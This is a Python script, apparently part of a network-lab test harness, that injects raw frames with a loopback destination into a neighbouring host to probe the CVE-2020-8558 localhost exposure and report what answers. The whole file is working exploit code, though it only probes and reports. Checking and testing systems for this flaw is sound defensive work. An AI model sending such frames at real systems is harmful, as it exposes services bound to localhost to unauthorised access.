"""Put a frame on the wire that no honest kernel would send, and say what comes back.

A TCP SYN, or a UDP datagram, from a node's own address to any destination, 127.0.0.1 say, in a
frame addressed to a machine next door: the loopback attack of CVE-2020-8558. Prints ``syn-ack``,
``reset``, ``answer`` (UDP) or ``nothing``. The neighbour has to know the node's MAC address
already, or its answer is lost: ping it first.
"""

from __future__ import annotations

import argparse
import os
import socket
import struct
import sys
import time

from nsgen.proof.lab.nodes import inside

ETH_P_IP = 0x0800
SYN, RST, SYN_ACK = 0x02, 0x04, 0x12


def checksum(data: bytes) -> int:
    """The internet checksum, RFC 1071."""
    total: int = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source: str, to: str, protocol: str, ports: tuple[int, int]) -> bytes:
    """An IPv4 packet with a SYN or a datagram in it."""
    addresses = socket.inet_aton(source) + socket.inet_aton(to)
    number = socket.IPPROTO_TCP if protocol == "tcp" else socket.IPPROTO_UDP

    def transport(checked: int) -> bytes:
        if protocol == "tcp":
            return struct.pack("!HHIIBBHHH", *ports, 1, 0, 5 << 4, SYN, 64240, checked, 0)
        data = b"who\n"
        return struct.pack("!HHHH", *ports, 8 + len(data), checked) + data

    body = transport(0)
    pseudo = addresses + struct.pack("!BBH", 0, number, len(body))
    body = transport(checksum(pseudo + body))

    def header(checked: int) -> bytes:
        start = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, number, checked)
        return start + addresses

    return header(checksum(header(0))) + body


def reply_in(data: bytes, protocol: str, ports: tuple[int, int]) -> str:
    """What a received packet says to our own, or nothing."""
    number = socket.IPPROTO_TCP if protocol == "tcp" else socket.IPPROTO_UDP
    if len(data) < 40 - 12 * (protocol == "udp") or data[9] != number:
        return ""
    body = data[(data[0] & 15) * 4 :]
    # From whatever port: an answer that lost its translation is an answer still.
    if struct.unpack("!HH", body[:4])[1] != ports[0]:
        return ""
    if protocol == "udp":
        return "answer"
    flags = body[13] & (SYN_ACK | RST)
    return {SYN_ACK: "syn-ack"}.get(flags, "reset" if flags & RST else "")


def inject(arguments: argparse.Namespace) -> str:
    """Send the frame, three times over, and wait for a reply."""
    ports = (20000 + os.getpid() % 20000, arguments.port)
    mac = bytes.fromhex(arguments.mac.replace(":", ""))
    with inside(arguments.node):
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sock.bind((arguments.device, ETH_P_IP))
    data = packet(arguments.source, arguments.to, arguments.protocol, ports)
    deadline = time.monotonic() + arguments.timeout
    while (now := time.monotonic()) < deadline:
        sock.sendto(data, (arguments.device, ETH_P_IP, 0, 0, mac))
        until = min(deadline, now + arguments.timeout / 3)
        while (left := until - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                received, address = sock.recvfrom(2048)
            except TimeoutError:
                break
            reply = reply_in(received, arguments.protocol, ports)
            if address[2] != socket.PACKET_OUTGOING and reply:
                return reply
    return "nothing"


def main() -> None:
    """Inject one frame."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--timeout", type=float, default=0.5, help="seconds to wait for a reply")
    parser.add_argument("node", help="where it is sent from")
    parser.add_argument("device", help="the device of the node that it leaves by")
    parser.add_argument("source", help="the node's address")
    parser.add_argument("mac", help="whom the frame is for")
    parser.add_argument("to", help="whom the packet is for")
    parser.add_argument("port", type=int)
    parser.add_argument("protocol", choices=("tcp", "udp"))
    sys.stdout.write(inject(parser.parse_args()) + "\n")


if __name__ == "__main__":
    main()
